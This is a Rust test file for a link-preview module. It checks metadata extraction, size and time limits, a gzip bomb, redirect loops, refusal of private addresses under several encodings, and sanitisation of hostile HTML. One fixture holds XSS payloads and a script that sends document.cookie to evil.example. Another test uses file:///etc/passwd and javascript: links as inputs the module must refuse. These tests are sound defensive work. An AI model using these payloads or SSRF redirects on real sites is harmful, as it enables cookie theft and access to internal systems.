//! Link snapshots against a real HTTP server on 127.0.0.1.
#![allow(clippy::unwrap_used)]

#[path = "snapshot/server.rs"]
mod server;

use std::net::SocketAddr;
use std::time::{Duration, Instant};

use backstory_collect::snapshot::{
    self, AddressKind, ImageError, Snapshot, SnapshotConfig, SnapshotError,
};
use bytes::Bytes;
use image::{ImageEncoder, Rgb, RgbImage, Rgba, RgbaImage};
use server::{Server, html, ok, redirect, status, stream};

const MIB: u64 = 1024 * 1024;

/// The setting the tests use to reach 127.0.0.1.
fn local() -> SnapshotConfig {
    SnapshotConfig {
        allow_private: true,
        ..SnapshotConfig::default()
    }
}

/// Private addresses refused, except this one server's exact socket.
fn only(allowed: SocketAddr) -> SnapshotConfig {
    SnapshotConfig {
        allow_private: false,
        allowed_sockets: vec![allowed],
        ..SnapshotConfig::default()
    }
}

fn jpeg_with_exif(width: u32, height: u32) -> Vec<u8> {
    let picture = RgbImage::from_fn(width, height, |x, y| {
        Rgb([(x / 8 % 256) as u8, (y / 8 % 256) as u8, 120])
    });
    let mut bytes = Vec::new();
    let mut encoder = image::codecs::jpeg::JpegEncoder::new_with_quality(&mut bytes, 85);
    let mut exif = b"II*\0\x08\0\0\0\0\0".to_vec();
    exif.extend_from_slice(b"CAMERA-SERIAL-4711");
    encoder.set_exif_metadata(exif).unwrap();
    encoder
        .write_image(
            picture.as_raw(),
            width,
            height,
            image::ExtendedColorType::Rgb8,
        )
        .unwrap();
    bytes
}

fn png_icon(side: u32) -> Vec<u8> {
    let picture = RgbaImage::from_fn(side, side, |x, y| {
        Rgba([
            200,
            (x % 256) as u8,
            (y % 256) as u8,
            if x < side / 2 { 255 } else { 128 },
        ])
    });
    let mut bytes = Vec::new();
    picture
        .write_with_encoder(image::codecs::png::PngEncoder::new(&mut bytes))
        .unwrap();
    bytes
}

/// A grey PNG of the given size, written row by row so the test never holds its pixels.
fn huge_png(width: u32, height: u32) -> Vec<u8> {
    let mut bytes = Vec::new();
    let mut encoder = png::Encoder::new(&mut bytes, width, height);
    encoder.set_color(png::ColorType::Grayscale);
    encoder.set_compression(png::Compression::High);
    let mut writer = encoder.write_header().unwrap();
    let mut stream = writer.stream_writer().unwrap();
    let row = vec![128u8; width as usize];
    for _ in 0..height {
        std::io::Write::write_all(&mut stream, &row).unwrap();
    }
    stream.finish().unwrap();
    drop(writer);
    bytes
}

fn contains(haystack: &[u8], needle: &[u8]) -> bool {
    haystack
        .windows(needle.len())
        .any(|window| window == needle)
}

/// Every text field of a snapshot.
fn fields(snapshot: &Snapshot) -> Vec<&str> {
    [
        Some(snapshot.final_url.as_str()),
        snapshot.title.as_deref(),
        snapshot.description.as_deref(),
        snapshot.site_name.as_deref(),
        snapshot.excerpt.as_deref(),
        snapshot.language.as_deref(),
    ]
    .into_iter()
    .flatten()
    .collect()
}

const ARTICLE: &str = r#"<!doctype html>
<html lang="en-GB">
<head>
  <meta charset="utf-8">
  <title>Fallback title | Example News</title>
  <meta property="og:title" content="Walking the Ridgeway in Four Days">
  <meta property="og:description" content="Eighty-seven miles of chalk, &amp; a lot of sheep.">
  <meta property="og:site_name" content="Example Trails">
  <meta property="og:image" content="photo.jpg">
  <meta name="description" content="The plain meta description.">
</head>
<body>
  <nav><a href="/">Home</a> <a href="/news">News</a> <a href="/about">About us</a></nav>
  <article>
    <h1>Walking the Ridgeway in Four Days</h1>
    <p>The Ridgeway is often called Britain's oldest road. For at least five thousand years it has
    been used by travellers, herdsmen and soldiers, and today it is a national trail that runs
    from Overton Hill near Avebury to Ivinghoe Beacon.</p>
    <p>We started on a grey Thursday morning. The first day follows the chalk escarpment past
    Barbury Castle, an Iron Age hill fort, and the views open up across the Vale of White Horse
    long before you reach the famous chalk figure itself.</p>
    <p>On the second day the weather turned. Rain swept in from the west and the path, which is
    wide and rutted in places, became a river of pale mud. We sheltered in the lee of Wayland's
    Smithy, a Neolithic long barrow hidden in a ring of beech trees.</p>
    <p>By the fourth day our legs had found their rhythm. The last miles climb through beech woods
    to Ivinghoe Beacon, where the trail ends with a view over the Chilterns.</p>
  </article>
  <footer>Copyright Example Trails. All rights reserved.</footer>
</body>
</html>"#;

#[tokio::test]
async fn an_article_with_open_graph_tags() {
    let photo = jpeg_with_exif(3000, 2000);
    assert!(contains(&photo, b"CAMERA-SERIAL-4711"));
    let server = Server::start(move |path, _| match path {
        "/share" => redirect("/trail/ridgeway"),
        "/trail/ridgeway" => html(ARTICLE),
        "/trail/photo.jpg" => ok("image/jpeg", photo.clone()),
        _ => status(404),
    })
    .await;

    let snapshot = snapshot::take(&server.url("/share"), &local())
        .await
        .unwrap();

    assert_eq!(snapshot.final_url, server.url("/trail/ridgeway"));
    assert_eq!(
        snapshot.title.as_deref(),
        Some("Walking the Ridgeway in Four Days")
    );
    assert_eq!(
        snapshot.description.as_deref(),
        Some("Eighty-seven miles of chalk, & a lot of sheep.")
    );
    assert_eq!(snapshot.site_name.as_deref(), Some("Example Trails"));
    assert_eq!(snapshot.language.as_deref(), Some("en-GB"));
    assert!(!snapshot.truncated);

    let excerpt = snapshot.excerpt.as_deref().unwrap();
    println!("excerpt ({} chars):\n{excerpt}", excerpt.chars().count());
    assert!(excerpt.contains("Britain's oldest road"), "{excerpt}");
    assert!(excerpt.contains("Barbury Castle"), "{excerpt}");
    assert!(
        excerpt.contains("\n\n"),
        "paragraphs are kept apart: {excerpt}"
    );
    assert!(
        !excerpt.contains("About us"),
        "navigation is left out: {excerpt}"
    );
    assert!(excerpt.chars().count() <= 1500);

    let image = snapshot.image.as_ref().expect("the og:image");
    assert!(snapshot.image_error.is_none());
    assert_eq!(image.mime, "image/jpeg");
    assert_eq!((image.width, image.height), (1280, 853));
    let decoded = image::load_from_memory(&image.bytes).unwrap();
    assert_eq!((decoded.width(), decoded.height()), (1280, 853));
    assert!(!contains(&image.bytes, b"CAMERA-SERIAL-4711"));
    assert!(!contains(&image.bytes, b"Exif"));
    assert_eq!(
        server.hits(),
        ["/share", "/trail/ridgeway", "/trail/photo.jpg"]
    );
}

#[tokio::test]
async fn a_page_without_any_metadata_still_gives_title_and_text() {
    let page = r#"<html><head><title>  Notes on
        sourdough  </title></head><body>
        <div class="content">
        <p>Keep the starter at room temperature and feed it twice a day with equal weights of
        flour and water. After a week it should double within six hours of a feed.</p>
        <p>For the dough, mix five hundred grams of flour with three hundred and fifty grams of
        water and a hundred grams of active starter, rest it for an hour, then add the salt.</p>
        <p>Fold the dough every half hour for the first two hours, shape it, and leave it in the
        fridge overnight before baking it in a very hot covered pot.</p>
        </div></body></html>"#;
    let server = Server::start(move |_, _| {
        let mut reply = html(page);
        reply
            .headers_mut()
            .insert("content-language", "fr-CA, en".parse().unwrap());
        reply
    })
    .await;

    let snapshot = snapshot::take(&server.url("/bread"), &local())
        .await
        .unwrap();

    assert_eq!(snapshot.title.as_deref(), Some("Notes on sourdough"));
    assert_eq!(snapshot.description, None);
    assert_eq!(snapshot.site_name.as_deref(), Some("127.0.0.1"));
    assert_eq!(snapshot.language.as_deref(), Some("fr-CA"));
    let excerpt = snapshot.excerpt.as_deref().unwrap();
    assert!(
        excerpt.contains("Keep the starter at room temperature"),
        "{excerpt}"
    );
    assert!(excerpt.contains("covered pot."), "{excerpt}");
    assert!(snapshot.image.is_none());
    assert!(snapshot.image_error.is_none());
}

#[tokio::test]
async fn a_gbk_page_declared_only_in_meta() {
    let page = "<!doctype html><html lang=\"zh-CN\"><head>\
        <meta http-equiv=\"Content-Type\" content=\"text/html; charset=gbk\">\
        <title>中文标题：测试页面</title></head><body>\
        <p>这是一个用国标扩展编码写成的网页。浏览器应该从网页头部的声明中得知它的编码，然后正确地显示每一个汉字。</p>\
        <p>第二段文字说明，即使服务器没有在响应头里写明字符集，我们也能正确地读出标题和正文。</p>\
        </body></html>";
    let (bytes, _, unmappable) = encoding_rs::GBK.encode(page);
    assert!(!unmappable);
    assert!(std::str::from_utf8(&bytes).is_err(), "really not UTF-8");
    let bytes = Bytes::from(bytes.into_owned());
    let server = Server::start(move |_, _| ok("text/html", bytes.clone())).await;

    let snapshot = snapshot::take(&server.url("/gbk"), &local()).await.unwrap();

    assert_eq!(snapshot.title.as_deref(), Some("中文标题：测试页面"));
    assert_eq!(snapshot.language.as_deref(), Some("zh-CN"));
    let excerpt = snapshot.excerpt.as_deref().unwrap();
    assert!(excerpt.contains("国标扩展编码"), "{excerpt}");
    assert!(excerpt.contains("正确地读出标题和正文"), "{excerpt}");
}

/// The answer for a page over the HTML limit: a snapshot of its first MiB, marked truncated.
#[tokio::test]
async fn a_fifty_megabyte_page_is_read_only_up_to_the_limit() {
    let total = 50 * MIB;
    let head = Bytes::from_static(
        b"<!doctype html><html><head><title>An endless page</title></head><body>",
    );
    let filler = Bytes::from(
        "<p>The same paragraph again and again, to make a very long page indeed.</p>\n".repeat(800),
    );
    let server = Server::start(move |_, counters| {
        stream(
            counters,
            "text/html; charset=utf-8",
            head.clone(),
            filler.clone(),
            total,
            Duration::ZERO,
            true,
        )
    })
    .await;

    let snapshot = snapshot::take(&server.url("/endless"), &local())
        .await
        .unwrap();

    assert!(snapshot.truncated);
    assert_eq!(snapshot.title.as_deref(), Some("An endless page"));
    assert!(
        snapshot
            .excerpt
            .as_deref()
            .unwrap()
            .starts_with("The same paragraph again")
    );
    // Let the server notice the closed connection, then see how much it managed to produce:
    // the limit's MiB plus what the socket buffers held, far from 50 MiB.
    tokio::time::sleep(Duration::from_millis(200)).await;
    let produced = server.streamed();
    println!(
        "50 MiB page: the server produced {:.1} MiB before the client hung up",
        produced as f64 / MIB as f64
    );
    assert!(produced < 16 * MIB, "{produced}");
}

#[tokio::test]
async fn a_compressed_bomb_counts_its_decompressed_bytes() {
    use std::io::Write;
    let mut encoder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    encoder
        .write_all(b"<html><head><title>Small on the wire</title></head><body><p>")
        .unwrap();
    let zeros = vec![b'a'; MIB as usize];
    for _ in 0..50 {
        encoder.write_all(&zeros).unwrap();
    }
    let gzipped = Bytes::from(encoder.finish().unwrap());
    println!("50 MiB of HTML gzipped to {} KiB", gzipped.len() / 1024);
    let server = Server::start(move |_, _| {
        let mut reply = ok("text/html", gzipped.clone());
        reply
            .headers_mut()
            .insert("content-encoding", "gzip".parse().unwrap());
        reply
    })
    .await;

    let snapshot = snapshot::take(&server.url("/bomb"), &local())
        .await
        .unwrap();

    assert!(snapshot.truncated);
    assert_eq!(snapshot.title.as_deref(), Some("Small on the wire"));
}

#[tokio::test]
async fn a_server_sending_one_byte_a_second_meets_the_deadline() {
    let server = Server::start(|_, counters| {
        stream(
            counters,
            "text/html",
            Bytes::from_static(b"<"),
            Bytes::from_static(b"p"),
            3600,
            Duration::from_secs(1),
            false,
        )
    })
    .await;
    let config = SnapshotConfig {
        timeout: Duration::from_secs(2),
        ..local()
    };

    let started = Instant::now();
    let result = snapshot::take(&server.url("/slow"), &config).await;

    println!("gave up after {:?}", started.elapsed());
    match result {
        Err(SnapshotError::Timeout { after }) => assert_eq!(after, Duration::from_secs(2)),
        other => panic!("{other:?}"),
    }
    assert!(server.streamed() < 3600);
}

#[tokio::test]
async fn a_redirect_loop_stops_after_five_redirects() {
    let server = Server::start(|path, _| match path {
        "/a" => redirect("/b"),
        _ => redirect("/a"),
    })
    .await;

    let error = snapshot::take(&server.url("/a"), &local())
        .await
        .unwrap_err();

    assert!(
        matches!(error, SnapshotError::TooManyRedirects { max: 5 }),
        "{error:?}"
    );
    assert_eq!(error.to_string(), "the page redirects more than 5 times");
    assert_eq!(
        server.hits().len(),
        6,
        "the first request and five redirects"
    );
}

/// A host name goes through the guard's own lookup, and the client connects to the addresses
/// that lookup checked (IP-literal links, as in the other tests, never reach a resolver).
#[tokio::test]
async fn a_host_name_is_resolved_and_checked_by_the_guard() {
    let server = Server::start(|_, _| html("<title>By name</title>")).await;
    let by_name = format!("http://localhost:{}/named", server.addr.port());

    let snapshot = snapshot::take(&by_name, &local()).await.unwrap();

    assert_eq!(snapshot.title.as_deref(), Some("By name"));
    assert_eq!(snapshot.site_name.as_deref(), Some("localhost"));
    assert_eq!(server.hits(), ["/named"]);
}

#[tokio::test]
async fn five_redirects_are_followed() {
    let server = Server::start(|path, _| {
        match path
            .strip_prefix("/hop/")
            .and_then(|n| n.parse::<u32>().ok())
        {
            Some(n) if n < 5 => redirect(&format!("/hop/{}", n + 1)),
            _ => html("<title>Arrived</title><p>At last.</p>"),
        }
    })
    .await;

    let snapshot = snapshot::take(&server.url("/hop/0"), &local())
        .await
        .unwrap();

    assert_eq!(snapshot.final_url, server.url("/hop/5"));
    assert_eq!(snapshot.title.as_deref(), Some("Arrived"));
}

/// With `allow_private` off, the guard refuses every private address: the test server itself is
/// let through by its exact socket address (so the first hop is live), and a second server on
/// loopback stands for a private target that must never be reached.
#[tokio::test]
async fn private_addresses_are_refused_with_the_setting_off() {
    let target = Server::start(|_, _| html("<title>Internal admin</title>")).await;
    let port = target.addr.port();
    let server = Server::start(move |path, _| match path {
        "/live" => html("<title>Public page</title>"),
        "/to-ip" => redirect(&format!("http://127.0.0.1:{port}/")),
        "/to-name" => redirect(&format!("http://localhost:{port}/")),
        "/to-mapped" => redirect(&format!("http://[::ffff:127.0.0.1]:{port}/")),
        "/to-v6" => redirect(&format!("http://[::1]:{port}/")),
        "/to-decimal" => redirect(&format!("http://2130706433:{port}/")),
        "/to-zero" => redirect(&format!("http://0.0.0.0:{port}/")),
        "/image" => html(&format!(
            "<title>Page with a private image</title>\
             <meta property=\"og:image\" content=\"http://127.0.0.1:{port}/secret.png\">"
        )),
        _ => status(404),
    })
    .await;
    let config = only(server.addr);

    // The channel is live: the allowed server gives a snapshot.
    let live = snapshot::take(&server.url("/live"), &config).await.unwrap();
    assert_eq!(live.title.as_deref(), Some("Public page"));

    // First hop to a private address.
    match snapshot::take(&target.url("/"), &config).await {
        Err(SnapshotError::RefusedAddress { kind, .. }) => assert_eq!(kind, AddressKind::Loopback),
        other => panic!("{other:?}"),
    }

    // Redirects to it, however the address is written.
    for (path, kind) in [
        ("/to-ip", AddressKind::Loopback),
        ("/to-name", AddressKind::Loopback),
        ("/to-mapped", AddressKind::Loopback),
        ("/to-v6", AddressKind::Loopback),
        ("/to-decimal", AddressKind::Loopback),
        ("/to-zero", AddressKind::Unspecified),
    ] {
        match snapshot::take(&server.url(path), &config).await {
            Err(error @ SnapshotError::RefusedAddress { .. }) => {
                println!("{path}: {error}");
                let SnapshotError::RefusedAddress { kind: got, .. } = error else {
                    unreachable!()
                };
                assert_eq!(got, kind, "{path}");
            }
            other => panic!("{path}: {other:?}"),
        }
    }

    // The preview image goes through the same guard; the rest of the snapshot stays.
    let snapshot = snapshot::take(&server.url("/image"), &config)
        .await
        .unwrap();
    assert_eq!(snapshot.title.as_deref(), Some("Page with a private image"));
    assert!(snapshot.image.is_none());
    match snapshot.image_error {
        Some(ImageError::Fetch(error)) => {
            assert!(
                matches!(*error, SnapshotError::RefusedAddress { .. }),
                "{error:?}"
            );
        }
        other => panic!("{other:?}"),
    }

    assert!(
        target.hits().is_empty(),
        "the private server was never reached"
    );
}

#[tokio::test]
async fn a_pdf_is_named_by_type_and_size() {
    let pdf = Bytes::from(format!("%PDF-1.7\n{}\n%%EOF\n", "0".repeat(20_000)));
    let size = pdf.len() as u64;
    let server = Server::start(move |_, _| ok("application/pdf", pdf.clone())).await;

    let error = snapshot::take(&server.url("/paper.pdf"), &local())
        .await
        .unwrap_err();

    match &error {
        SnapshotError::NotHtml { mime, size: got } => {
            assert_eq!(mime, "application/pdf");
            assert_eq!(*got, Some(size));
        }
        other => panic!("{other:?}"),
    }
    assert_eq!(
        error.to_string(),
        format!("not a web page: application/pdf, {size} bytes")
    );
}

#[tokio::test]
async fn a_closed_port_says_why() {
    let closed = {
        let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        listener.local_addr().unwrap()
    };
    let error = snapshot::take(&format!("http://{closed}/"), &local())
        .await
        .unwrap_err();
    println!("{error}");
    assert!(matches!(error, SnapshotError::Fetch(_)), "{error:?}");
    assert!(error.to_string().contains("refused"), "{error}");
}

#[tokio::test]
async fn an_error_status_is_its_own_failure() {
    let server = Server::start(|_, _| status(404)).await;
    let error = snapshot::take(&server.url("/gone"), &local())
        .await
        .unwrap_err();
    assert!(
        matches!(error, SnapshotError::Status { status: 404 }),
        "{error:?}"
    );
}

#[tokio::test]
async fn hostile_markup_leaves_only_text() {
    let page = r#"<!doctype html><html lang="en&quot;><script>"><head>
        <title>Hostile<script>document.title='pwned-title-script'</script></title>
        <meta property="og:title" content="<script>alert('pwned-og')</script>A <b>bold</b> title">
        <meta property="og:description" content="Line one&#10;&#13;line &#1;two&#x202E; <img src=x onerror=alert('pwned-onerror')>">
        <meta property="og:image" content="/huge.png">
        <link rel="icon" href="javascript:alert('pwned-icon')">
        <style>body { background: url(javascript:alert('pwned-style')) }</style>
        <script>fetch('https://evil.example/?c=' + document.cookie) // pwned-script</script>
        </head><body onload="alert('pwned-onload')">
        <noscript><p>pwned-noscript</p></noscript>
        <article>
        <p onclick="alert('pwned-onclick')">A paragraph worth reading, with a
        <a href="javascript:alert('pwned-link')">link that runs code</a> in the middle of it.
        The rest of the sentence continues long enough to look like an article.</p>
        <script>document.write('pwned-inline')</script>
        <iframe srcdoc="<p>pwned-iframe</p>"></iframe>
        <svg><script>alert('pwned-svg')</script><text>pwned-svg-text</text></svg>
        <p>A second paragraph, plainly written, with &lt;script&gt; spelled out as text.</p>
        <template><p>pwned-template</p></template>
        </article></body></html>"#;
    let huge = Bytes::from(huge_png(20_000, 20_000));
    println!("a 20 000 × 20 000 PNG is {} KiB", huge.len() / 1024);
    let server = Server::start(move |path, _| match path {
        "/huge.png" => ok("image/png", huge.clone()),
        _ => html(page),
    })
    .await;

    let snapshot = snapshot::take(&server.url("/hostile"), &local())
        .await
        .unwrap();
    println!("{snapshot:#?}");

    assert_eq!(snapshot.title.as_deref(), Some("A bold title"));
    assert_eq!(snapshot.description.as_deref(), Some("Line one line two"));
    assert_eq!(snapshot.language, None);
    let excerpt = snapshot.excerpt.as_deref().unwrap();
    assert!(excerpt.contains("A paragraph worth reading"), "{excerpt}");
    assert!(
        excerpt.contains("<script> spelled out as text"),
        "{excerpt}"
    );
    for field in fields(&snapshot) {
        assert!(!field.contains("pwned"), "{field}");
        assert!(!field.contains("javascript"), "{field}");
        assert!(
            !field.chars().any(|c| c.is_control() && c != '\n'),
            "{field:?}"
        );
    }
    assert!(snapshot.image.is_none());
    match snapshot.image_error {
        Some(ImageError::TooManyPixels { width, height }) => {
            assert_eq!((width, height), (20_000, 20_000));
        }
        other => panic!("{other:?}"),
    }
    assert_eq!(server.hits(), ["/hostile", "/huge.png"]);
}

#[tokio::test]
async fn the_largest_icon_stands_in_for_a_missing_og_image() {
    let small = Bytes::from(png_icon(16));
    let large = Bytes::from(png_icon(180));
    let server = Server::start(move |path, _| match path {
        "/favicon-16.png" => ok("image/png", small.clone()),
        "/touch.png" => ok("image/png", large.clone()),
        "/logo.svg" => ok("image/svg+xml", "<svg/>"),
        _ => html(
            r#"<html><head><title>Icons</title>
            <link rel="icon" type="image/svg+xml" href="/logo.svg" sizes="any">
            <link rel="shortcut icon" href="/favicon-16.png" sizes="16x16">
            <link rel="apple-touch-icon" href="/touch.png" sizes="180x180">
            </head><body><p>Text.</p></body></html>"#,
        ),
    })
    .await;

    let snapshot = snapshot::take(&server.url("/"), &local()).await.unwrap();

    let image = snapshot.image.unwrap();
    assert_eq!((image.width, image.height), (180, 180));
    assert_eq!(image.mime, "image/png", "the icon is translucent");
    assert_eq!(server.hits(), ["/", "/touch.png"]);
}

#[tokio::test]
async fn an_image_over_the_byte_limit_is_left_out() {
    let big = Bytes::from(vec![0xFFu8; 6 * MIB as usize]);
    let server = Server::start(move |path, _| match path {
        "/big.jpg" => ok("image/jpeg", big.clone()),
        _ => html(r#"<title>Big image</title><meta property="og:image" content="/big.jpg">"#),
    })
    .await;

    let snapshot = snapshot::take(&server.url("/"), &local()).await.unwrap();

    assert_eq!(snapshot.title.as_deref(), Some("Big image"));
    assert!(matches!(
        snapshot.image_error,
        Some(ImageError::TooManyBytes { max }) if max == 5 * MIB as usize
    ));
}

#[tokio::test]
async fn links_that_fail_the_pre_checks_are_never_fetched() {
    let long = format!("https://example.org/{}", "a".repeat(5000));
    for (link, expected) in [
        (
            "file:///etc/passwd",
            "only http and https links get a snapshot, not file: links",
        ),
        (
            "javascript:alert(1)",
            "only http and https links get a snapshot, not javascript: links",
        ),
        (
            "https://me:secret@example.org/",
            "links with a user name or password get no snapshot",
        ),
        (
            long.as_str(),
            "the link is 5020 characters long; links over 4096 characters get no snapshot",
        ),
    ] {
        let error = snapshot::take(link, &local()).await.unwrap_err();
        assert_eq!(error.to_string(), expected);
    }
}
